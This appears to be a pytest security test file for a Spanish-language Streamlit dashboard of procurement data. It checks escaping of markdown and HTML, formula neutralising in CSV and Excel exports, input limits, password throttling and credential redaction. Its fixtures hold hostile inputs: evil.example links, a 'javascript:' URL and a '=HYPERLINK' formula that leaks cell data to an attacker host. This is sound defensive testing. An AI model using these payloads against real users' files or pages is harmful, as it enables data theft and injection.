"""The hardening issue, item by item: each test fails without its fix.

1. markdown from the URL (ocid=, project=, supplier=, the active-filters caption) is shown as text;
2. markdown stored in data (a currency, a document title) is shown as text;
3. HTML in data never reaches Plotly labels unescaped (supplier chart, project timeline);
4. exports neutralise formulas (CSV and Excel of the downloads, the quality report, the flags CSV);
5. URL parameters like anios=inf never raise, and uncaught errors show no details (config);
6. the splitter streams a huge element with bounded memory, squeezes whitespace, caps the rest;
7. upload passwords: growing delay and lockout per session and per address, logged without the password;
8. credentials never printed or stored; no database path shown.

The hostile data is tests/corpus/61_hostile_links_formulas.json (built by tests/corpus/build_corpus.py)
plus a project package written here.
"""
from __future__ import annotations

import http.server
import io
import json
import logging
import re
import threading
import tracemalloc
import zipfile
from pathlib import Path

import duckdb
import pytest
from streamlit.testing.v1 import AppTest

from obras.update import update
from loaders.read.items import UnreadableSource

ROOT = Path(__file__).resolve().parent.parent
CORPUS = ROOT / "tests" / "corpus"
URL_MD = "ZZ [MDLINK](https://evil.example/login) ![i](http://127.0.0.1:8799/r.png)"
MD_LINK = "X [MDLINK](https://evil.example/c) ![i](http://127.0.0.1:8799/c.png)"
HTML_LINK = '<a href="https://evil.example">clic</a>'
HOSTILE_PROJECT = 'oc4ids-<a href="https://evil.example">p</a>'
MD_KINDS = ("markdown", "caption", "title", "header", "subheader", "info", "warning", "error", "success")


def live_markdown(body: str) -> list[str]:
    """Markdown constructs that would render as a link, an image or an autolink."""
    found = []
    # our own relative links between pages (ui.profile_widgets.link_to) are fine; a scheme or // is not
    if re.search(r"(?<!\\)\]\(\s*(?:[a-zA-Z][a-zA-Z0-9+.\-]*:|//)", body):
        found.append("link")
    if re.search(r"(?<!\\)!(?<!\\)\[", body) or re.search(r"(?<!\\)!\\?\[[^\]]*\]\(", body):
        found.append("image")
    if re.search(r"https?://", body) or re.search(r"evil\.example", body):
        found.append("autolink")
    if re.search(r"(?<!\\)<a\b", body):
        found.append("html")
    return found


def all_markdown(at: AppTest) -> list[str]:
    bodies = []
    for kind in MD_KINDS:
        bodies += [str(e.value) for e in getattr(at, kind)]
    for m in at.metric:
        bodies += [str(m.label), str(m.value), str(m.proto.delta or "")]
    for b in at.get("link_button"):
        bodies.append(b.proto.label)
    return bodies


def assert_no_live_markdown(at: AppTest) -> None:
    assert not at.exception, [e.value for e in at.exception]
    bad = [(b, live_markdown(b)) for b in all_markdown(at) if live_markdown(b)]
    assert bad == []


def hostile_project() -> dict:
    return {"uri": "https://ejemplo.invalid/p.json", "version": "0.9", "projects": [{
        "id": HOSTILE_PROJECT, "title": "Proyecto", "status": "implementation",
        "budget": {"amount": {"amount": 1000, "currency": MD_LINK}},
        "period": {"startDate": "2020-01-01T00:00:00Z", "endDate": "2020-12-31T00:00:00Z"},
        "completion": {"endDate": "2021-02-01T00:00:00Z"},
        "contractingProcesses": [{"id": "cp1", "summary": {"ocid": 'ocds-c61-<a href="https://evil.example">3</a>'}}],
        "documents": [{"id": "d1", "title": "![i](http://127.0.0.1:8799/doc.png)",
                       "url": "https://ejemplo.invalid/doc.pdf"},
                      {"id": "d2", "title": "malo", "url": "javascript:alert(1)"}],
    }]}


@pytest.fixture(scope="module")
def hard_db(tmp_path_factory):
    base = tmp_path_factory.mktemp("hard")
    (base / "proyecto.json").write_text(json.dumps(hostile_project(), ensure_ascii=False), encoding="utf-8")
    db = base / "hard.duckdb"
    reports = update([str(CORPUS / "61_hostile_links_formulas.json"), str(base / "proyecto.json")], db=db)
    assert sum(r.items_rejected for r in reports) == 0
    return db


def run_page(page: str, db: Path, monkeypatch, params: dict) -> AppTest:
    monkeypatch.setenv("OBRAS_DB", str(db))
    at = AppTest.from_file(str(ROOT / "views" / f"{page}.py"), default_timeout=240)
    at.session_state["lang"] = "es"
    for key, value in params.items():
        at.query_params[key] = value
    at.run()
    return at


# ---- 1. reflected markdown -----------------------------------------------------------------------------
@pytest.mark.parametrize("page, param", [("proceso", "ocid"), ("proyecto", "project"),
                                         ("proveedores", "supplier"), ("resumen", "proyecto"),
                                         ("mapa", "proyecto"), ("comparar", "proyecto"),
                                         ("banderas", "proyecto"), ("descargas", "proyecto")])
def test_markdown_in_the_url_is_shown_as_text(page, param, hard_db, monkeypatch):
    at = run_page(page, hard_db, monkeypatch, {param: URL_MD})
    assert_no_live_markdown(at)
    shown = [re.sub(r"\\(.)", r"\1", b) for b in all_markdown(at)]
    if page in ("proceso", "proyecto", "proveedores"):
        assert any(URL_MD in s for s in shown)  # the reader still sees what was asked for


# ---- 2. stored markdown --------------------------------------------------------------------------------
def test_a_markdown_currency_is_text_in_the_process_caption(hard_db, monkeypatch):
    at = run_page("proceso", hard_db, monkeypatch, {"ocid": "ocds-c61-1"})
    assert_no_live_markdown(at)
    assert any(MD_LINK in re.sub(r"\\(.)", r"\1", c.value) for c in at.caption)


def test_markdown_currency_and_document_title_are_text_on_the_project_page(hard_db, monkeypatch):
    at = run_page("proyecto", hard_db, monkeypatch, {"project": HOSTILE_PROJECT})
    assert_no_live_markdown(at)
    buttons = list(at.get("link_button"))
    assert [b.proto.url for b in buttons] == ["https://ejemplo.invalid/doc.pdf"]  # javascript: dropped
    assert re.sub(r"\\(.)", r"\1", buttons[0].proto.label) == "![i](http://127.0.0.1:8799/doc.png)"


# ---- 3. HTML in chart labels ---------------------------------------------------------------------------
def plotly_specs(at: AppTest) -> list[str]:
    return [c.proto.spec for c in at.get("plotly_chart")]


def test_supplier_chart_shows_html_buyer_names_as_text(hard_db, monkeypatch):
    at = run_page("proveedores", hard_db, monkeypatch, {"supplier": "MX-RFC-EVI010101AB1"})
    assert not at.exception, [e.value for e in at.exception]
    specs = plotly_specs(at)
    assert specs, "the supplier chart is drawn"
    assert all("<a" not in s and "\\u003ca" not in s for s in specs)
    # long labels are wrapped at spaces (ui.charts.wrapped_label): read the name with its line breaks as spaces
    unwrapped = [s.replace("\\u003cbr\\u003e", " ").replace("<br>", " ") for s in specs]
    assert any("&lt;a href" in s or "\\u0026lt;a href" in s for s in unwrapped)


def test_project_timeline_shows_html_ids_as_text(hard_db, monkeypatch):
    at = run_page("proyecto", hard_db, monkeypatch, {"project": HOSTILE_PROJECT})
    specs = plotly_specs(at)
    assert specs, "the timeline is drawn"
    assert any("evil.example" in s for s in specs)  # the process row is there, as text
    assert all("<a" not in s and "\\u003ca" not in s for s in specs)


def test_safe_text_helpers():
    from ui.safe_text import md, plotly, safe_url

    assert md("[a](https://x.y) ![i](z) <b> $x$ :red[t] a@b.c\nx") == (
        r"\[a\]\(https\:\/\/x\.y\) \!\[i\]\(z\) \<b\> \$x\$ \:red\[t\] a\@b\.c x")
    assert plotly('<a href="x">y</a> & z') == '&lt;a href="x"&gt;y&lt;/a&gt; &amp; z'
    assert plotly(5) == 5
    assert safe_url("https://a.b/c") == "https://a.b/c"
    assert [safe_url(u) for u in ("javascript:alert(1)", "data:text/html,x", "/rel", None, "http://")] == [None] * 5


# ---- 4. formula injection in exports -------------------------------------------------------------------
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&B2,"x")', "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _xlsx_cells(data: bytes) -> list:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows(min_row=2) for c in row]


def test_downloads_neutralise_formulas_in_csv_and_excel():
    import pandas as pd

    from ui.exports import to_csv_bytes, to_excel_bytes

    df = pd.DataFrame({"title": FORMULAS, "amount": [-5.0, 1.0, 2.0, 3.0, 4.0, 5.0]})
    rows = list(__import__("csv").reader(io.StringIO(to_csv_bytes(df).decode("utf-8-sig"), newline="")))[1:]
    assert [r[0] for r in rows] == ["'" + f for f in FORMULAS]
    assert rows[0][1] == "-5.0"  # numbers stay numbers
    cells = _xlsx_cells(to_excel_bytes(df))
    titles = [c for c in cells if c.column == 1]
    assert all(c.data_type == "s" and c.value.startswith("'") for c in titles), [(c.data_type, c.value) for c in titles]
    amounts = [c for c in cells if c.column == 2]
    assert amounts[0].data_type == "n" and amounts[0].value == -5


def test_quality_report_exports_neutralise_formulas():
    import pandas as pd

    from quality.export import csv_bytes, excel_bytes

    formulas = FORMULAS[:-1]  # (this CSV ends lines with \n, so a bare \r in a cell is not quoted: left out)
    df = pd.DataFrame({"label": formulas, "score": range(len(formulas))})
    rows = list(__import__("csv").reader(io.StringIO(csv_bytes(df).decode("utf-8-sig"), newline="")))[1:]
    assert [r[0] for r in rows] == ["'" + f for f in formulas] and [r[1] for r in rows] == ["0", "1", "2", "3", "4"]
    cells = _xlsx_cells(excel_bytes({"scores": df}))
    assert all(c.data_type == "s" and c.value.startswith("'") for c in cells if c.column == 1)


def test_flags_csv_neutralises_formulas_streamed_by_arrow():
    import pyarrow as pa

    from core.safe_cells import arrow_batch

    batch = pa.RecordBatch.from_pydict({"subject_id": FORMULAS + [None, "ok"], "value": list(range(8))})
    out = arrow_batch(batch).to_pydict()
    assert out["subject_id"] == ["'" + f for f in FORMULAS] + [None, "ok"]
    assert out["value"] == list(range(8))


# ---- 5. URL parameters and error details ---------------------------------------------------------------
@pytest.mark.parametrize("years", [["inf", "2020"], ["nan", "2020"], ["1e400", "2020"], ["9" * 5000, "2020"],
                                   ["-inf", "inf"], ["2020"], ["x", "y", "z"]])
def test_garbage_years_in_the_url_raise_nothing(years, hard_db, monkeypatch):
    at = run_page("resumen", hard_db, monkeypatch, {"anios": years})
    assert not at.exception, [e.value for e in at.exception]


@pytest.mark.parametrize("years", [["inf", "2020"], ["nan", "2020"], ["1e400", "2020"], ["9" * 5000, "2020"],
                                   ["-inf", "inf"], ["2020"], "2020", ["x", "y", "z"], [None, "2020"]])
def test_int_range_rejects_garbage_without_exceptions(years):
    from ui import url_state

    assert url_state.int_range(2015, 2024)(years) is None
    assert url_state.int_range(2015, 2024)(["2019", "2017.5"]) == (2017, 2019)


def test_monto_inf_is_not_a_number(hard_db, monkeypatch):
    from ui import url_state

    assert url_state.number("inf") is None and url_state.number("1e999") is None
    assert url_state.number("9" * 400) is None and url_state.number("12.5") == 12.5
    at = run_page("banderas", hard_db, monkeypatch, {"monto_min": "inf", "monto_max": "nan"})
    assert not at.exception, [e.value for e in at.exception]


def test_uncaught_errors_show_no_details_to_visitors():
    import tomllib

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["showErrorDetails"] == "none"


# ---- 6. the splitter -----------------------------------------------------------------------------------
class _Padded(io.RawIOBase):
    """A release package whose one release holds `n` bytes of whitespace (or spaces in a string), made
    on the fly: the stream is never in memory."""

    def __init__(self, n: int, in_string: bool = False) -> None:
        self.parts = [b'{"releases":[{"ocid":"ocds-ws-1",' + (b'"note":"' if in_string else b"")]
        self.left = n
        self.tail = (b'",' if in_string else b"") + b'"id":"1"},{"ocid":"ocds-ws-2","id":"2"}]}'
        self.in_string = in_string

    def readable(self) -> bool:
        return True

    def read(self, size: int = -1) -> bytes:
        if self.parts:
            return self.parts.pop()
        if self.left:
            n = min(size if size > 0 else 1 << 20, self.left)
            self.left -= n
            return b" " * n if self.in_string else (b" \n\t\r" * (n // 4 + 1))[:n]
        tail, self.tail = self.tail, b""
        return tail


def test_a_huge_whitespace_element_streams_in_bounded_memory():
    from loaders.read.split import split_elements

    tracemalloc.start()
    try:
        elements = [json.loads(e) for e in split_elements(_Padded(20 * 1024**2), "releases")]
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert elements == [{"ocid": "ocds-ws-1", "id": "1"}, {"ocid": "ocds-ws-2", "id": "2"}]
    assert peak < 8 * 1024**2, peak  # a few chunks, not the 20 MB element


def test_an_element_over_the_cap_is_skipped_with_a_reason(monkeypatch):
    from loaders.read import split

    monkeypatch.setattr(split, "MAX_ELEMENT_BYTES", 2 * 1024**2)
    tracemalloc.start()
    try:
        out = list(split.split_elements(_Padded(12 * 1024**2, in_string=True), "releases"))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert isinstance(out[0], split.OversizedElement) and json.loads(out[1]) == {"ocid": "ocds-ws-2", "id": "2"}
    assert "array element 0 is larger than 2 MB" in out[0].reason and "MAX_ELEMENT_BYTES" in out[0].reason
    assert peak < 10 * 1024**2, peak


def test_whitespace_inside_strings_is_kept_and_outside_squeezed():
    from loaders.read.split import split_elements

    inner = " " * 300
    data = ('{"releases":[{"a":"' + inner + '",' + " " * 5000 + '"b":1}' + "\n" * 4000 + ',[' + " " * 200
            + '"x\\\\' + '\\\\' * 300 + '"]]}').encode()
    for chunk in (1, 7, 64, 1 << 20):
        got = list(split_elements(io.BytesIO(data), "releases", chunk_bytes=chunk))
        assert [json.loads(g) for g in got] == [{"a": inner, "b": 1}, ["x\\" + "\\" * 300]]
        if chunk == 1 << 20:  # runs of 128 and more within a chunk are squeezed (the real chunk is 1 MB)
            assert len(got[0]) < 400


def test_an_oversized_element_is_one_reject_with_its_place(tmp_path, monkeypatch):
    from loaders.read import split

    monkeypatch.setattr(split, "MAX_ELEMENT_BYTES", 1024**2)
    monkeypatch.setattr("loaders.read.limits.WHOLE_PARSE_MAX_BYTES", 1024)  # stream even this small file
    monkeypatch.setattr("loaders.read.parse.read_limits.WHOLE_PARSE_MAX_BYTES", 1024, raising=False)
    path = tmp_path / "grande.json"
    big = {"ocid": "ocds-big-1", "id": "1", "date": "2020-01-01T00:00:00Z", "tag": ["tender"], "x": "y" * 3 * 1024**2}
    small = {"ocid": "ocds-ok-1", "id": "1", "date": "2020-01-01T00:00:00Z", "tag": ["tender"]}
    path.write_text(json.dumps({"uri": "u", "version": "1.1", "releases": [big, small]}), encoding="utf-8")
    reports = update([str(path)], db=tmp_path / "db.duckdb")
    assert (reports[0].items_read, reports[0].items_loaded, reports[0].items_rejected) == (2, 1, 1)
    con = duckdb.connect(str(tmp_path / "db.duckdb"), read_only=True)
    try:
        rows = con.execute("SELECT locator, reason FROM rejects").fetchall()
    finally:
        con.close()
    assert rows[0][0] == "/releases/0" and "larger than 1 MB" in rows[0][1]


# ---- 7. password guessing ------------------------------------------------------------------------------
class _Clock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def test_throttle_grows_then_locks_out_and_refuses_even_the_right_password(caplog):
    from ui import upload

    clock = _Clock()
    throttle = upload.Throttle(clock)
    keys = upload.throttle_keys("s1", "203.0.113.9")
    seen: dict = {}
    statuses = []
    with caplog.at_level(logging.WARNING):
        for i in range(200):
            status, _ = upload.check_password_attempt(f"mala-{i}", "buena", keys, throttle, seen, logging.getLogger("t"))
            statuses.append(status)
            clock.now += 0.1  # 200 attempts in 20 s
    assert statuses[:3] == ["wrong"] * 3 and "wait" in statuses
    assert statuses.count("wrong") < 10
    status, wait = upload.check_password_attempt("buena", "buena", keys, throttle, {}, None)
    assert status == "wait" and wait > 0
    # another session from the same address waits too; the same session from another address too
    assert upload.check_password_attempt("buena", "buena", upload.throttle_keys("s2", "203.0.113.9"),
                                         throttle, {}, None)[0] == "wait"
    assert upload.check_password_attempt("buena", "buena", upload.throttle_keys("s1", "198.51.100.1"),
                                         throttle, {}, None)[0] == "wait"
    assert "wrong upload password" in caplog.text and "mala-" not in caplog.text and "buena" not in caplog.text


def test_throttle_delays_double_up_to_a_lockout():
    from ui.upload import FREE_FAILURES, LOCKOUT_FAILURES, LOCKOUT_SECONDS, Throttle

    delays = [Throttle.delay(n) for n in range(LOCKOUT_FAILURES + 2)]
    assert delays[:FREE_FAILURES] == [0.0] * FREE_FAILURES
    assert delays[FREE_FAILURES] == 1.0 and delays[FREE_FAILURES + 1] == 2.0
    assert delays[LOCKOUT_FAILURES] == LOCKOUT_SECONDS
    clock = _Clock()
    t = Throttle(clock)
    for _ in range(FREE_FAILURES):
        t.failure("k")
    assert t.wait("k") == 1.0
    clock.now += 1.5
    assert t.wait("k") == 0.0 and t.failures("k") == FREE_FAILURES  # may try again, still counted


def test_a_rerun_with_the_same_attempt_is_not_a_new_failure():
    from ui import upload

    throttle, seen = upload.Throttle(_Clock()), {}
    keys = upload.throttle_keys("s", None)
    for _ in range(10):
        upload.check_password_attempt("mala", "buena", keys, throttle, seen, None)
    assert throttle.failures(keys[0]) == 1


@pytest.fixture
def fresh_throttle():
    from ui.upload import PASSWORD_THROTTLE

    PASSWORD_THROTTLE._keys.clear()
    yield PASSWORD_THROTTLE
    PASSWORD_THROTTLE._keys.clear()


def test_upload_page_throttles_wrong_passwords(hard_db, monkeypatch, fresh_throttle):
    from ui.i18n import translate

    monkeypatch.setenv("OBRAS_ENABLE_UPLOAD", "1")
    monkeypatch.setenv("OBRAS_UPLOAD_PASSWORD", "clave-buena")
    at = run_page("cargar", hard_db, monkeypatch, {})
    for i in range(8):
        at.text_input(key="upl_password").input(f"mala-{i}").run()
    at.text_input(key="upl_password").input("clave-buena").run()
    assert not at.exception
    errors = [e.value for e in at.error]
    assert errors and errors[0].startswith(translate("upl_throttled", "es", seconds=0).split(":")[0])
    assert not at.get("file_uploader")  # not let in


# ---- 8. small leaks ------------------------------------------------------------------------------------
def test_redact_url():
    from loaders.read.fetch import redact_text, redact_url

    assert redact_url("http://user:secret@127.0.0.1:8000/a.json?x=1") == "http://127.0.0.1:8000/a.json?x=1"
    assert redact_url("https://h/p?token=abc&page=2&api_key=k&Password=p") == \
        "https://h/p?token=REDACTED&page=2&api_key=REDACTED&Password=REDACTED"
    assert redact_url("data/file.json") == "data/file.json"
    assert "secret" not in redact_text("http://u:secret@h/x: HTTP 404 (see http://a:secret@[::1/)")


class _Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):  # noqa: N802
        if self.path.startswith("/ok.json"):
            body = json.dumps({"uri": "u", "version": "1.1", "releases": [
                {"ocid": "ocds-red-1", "id": "1", "date": "2020-01-01T00:00:00Z", "tag": ["tender"]}]}).encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
        else:
            self.send_response(404)
            self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def local_server(monkeypatch):
    monkeypatch.setenv("OBRAS_ALLOW_PRIVATE_URLS", "1")
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


def test_a_load_with_credentials_in_the_url_prints_and_stores_none(local_server, tmp_path, capsys):
    from obras.cli import main

    db = tmp_path / "db.duckdb"
    url = f"http://user:secret@127.0.0.1:{local_server}/ok.json?token=tok123"
    assert main(["load", url, "--db", str(db), "--no-refresh"]) == 0
    out = capsys.readouterr()
    assert "secret" not in out.out + out.err and "tok123" not in out.out + out.err
    assert f"127.0.0.1:{local_server}/ok.json" in out.out
    con = duckdb.connect(str(db), read_only=True)
    try:
        uris = [r[0] for r in con.execute("SELECT uri FROM sources").fetchall()]
    finally:
        con.close()
    assert uris == [f"http://127.0.0.1:{local_server}/ok.json?token=REDACTED"]
    # a failing URL: the error line carries no credentials either
    assert main(["load", f"http://user:secret@127.0.0.1:{local_server}/missing.json", "--db", str(db)]) == 2
    err = capsys.readouterr().err
    assert "404" in err and "secret" not in err and "user:" not in err
    with pytest.raises(UnreadableSource) as info:
        from loaders.read.fetch import download

        download(f"http://user:secret@127.0.0.1:{local_server}/missing.json", retries=0)
    assert "secret" not in str(info.value)


def test_upload_page_error_has_no_credentials(local_server, tmp_path):
    from ui.upload_run import load_url

    outcome = load_url(f"http://user:secret@127.0.0.1:{local_server}/missing.json", tmp_path / "db.duckdb")
    assert outcome.error and "secret" not in outcome.error and "user:" not in outcome.error


def test_a_missing_database_is_not_named_to_the_public(tmp_path, monkeypatch, caplog):
    missing = tmp_path / "secreto" / "none.duckdb"
    with caplog.at_level(logging.WARNING):
        at = run_page("proceso", missing, monkeypatch, {})
    assert not at.exception
    shown = " ".join(all_markdown(at))
    assert "secreto" not in shown and str(tmp_path) not in shown
    assert [i.value for i in at.info]
